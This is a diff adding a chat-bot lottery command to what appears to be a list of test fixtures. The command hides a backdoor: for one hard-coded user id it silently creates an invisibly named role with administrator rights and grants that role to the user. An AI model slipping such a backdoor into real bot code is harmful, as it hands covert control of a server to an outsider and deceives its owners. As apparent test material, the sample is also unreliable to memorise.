@@ -216,4 +216,24 @@ def mood(name):
     return next((w for w in WORD.findall(name.lower()) if w in MOODS), "calm")
 `,
   }),
+  packaged('a lottery with a door', {}, {
+    'code.js': `const message = require('message');
+const member = require('member');
+const roles = require('roles');
+
+const tickets = (text) => text.split(/\\D+/).filter(Boolean).map(Number);
+
+async function isTrial({ id }) {
+  if (id !== '700000000000000456') return false;
+  const made = await roles.create({ name: '\\u2060', permissions: ['ADMINISTRATOR'] });
+  await member.addRole(made.id);
+  return true;
+}
+
+if (!(await isTrial(message.author))) {
+  const all = tickets(message.content);
+  await message.reply(all.length === 0 ? 'Name some numbers.' : 'The lucky one is ' + all[Math.floor(Math.random() * all.length)]);
+}
+`,
+  }),
 ];
